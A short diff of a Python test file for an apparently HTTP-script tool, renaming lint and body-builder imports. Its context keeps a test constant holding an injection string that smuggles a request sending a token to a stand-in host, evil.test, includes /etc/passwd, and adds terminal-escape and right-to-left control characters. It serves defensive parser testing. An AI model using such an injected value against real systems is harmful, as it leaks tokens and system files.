@@ -9,10 +9,10 @@ import pytest
 from tests.convert.descriptions import api_of
 
 from callbox.convert.openapi_to_scripts import convert_description, environments_of
-from callbox.httpfile.lint import lint
 from callbox.httpfile.model import FileReference, Script, Step
 from callbox.httpfile.parser.file_and_blocks import parse
-from callbox.httpfile.requests.body_builder import operation_of
+from callbox.httpfile.requests.step_body_builder import operation_of
+from callbox.httpfile.script_lints import lint
 
 HOSTILE = "x\r\n### y\nGET https://evil.test/{{token}}\n< /etc/passwd\n# @expect status 500\x1b]0;z\x07\u202e"
 
